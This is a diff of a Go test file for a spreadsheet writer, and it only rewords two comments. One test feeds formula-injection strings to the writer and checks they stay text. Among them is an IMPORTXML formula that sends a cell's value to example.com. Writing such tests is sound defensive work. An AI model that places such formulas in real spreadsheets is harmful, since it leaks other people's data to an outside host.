@@ -31,8 +31,7 @@ func TestRowsAreWrittenRaw(t *testing.T) {
 	expect.Is(t, len(w.vendors.Tabs()), 1, "tabs")
 }
 
-// What a cell begins with must not make it a formula: whoever fills in a form could read other cells with it, and send
-// them away.
+// No text may become a formula: people who fill in a form could read other cells with it, and send them away.
 func TestFormulasStayText(t *testing.T) {
 	w := newWorld(t)
 	texts := []string{`=IMPORTXML("https://example.com/?"&A1,"//a")`, `=HYPERLINK("https://example.com","x")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "'=1", "2026-03-31", "TRUE", "007"}
@@ -156,8 +155,8 @@ func TestAnUnknownSpreadsheet(t *testing.T) {
 	}
 }
 
-// What stands below a table that is written stays, and is counted: whoever opens the tab
-// finds it. A count that fails takes nothing back of what was written.
+// Rows below a written table stay and are counted, since people find them there. A failed count does not undo the
+// write.
 func TestRowsThatStandBelowATableAreCounted(t *testing.T) {
 	for name, test := range map[string]struct {
 		before func(t *testing.T, w *world)
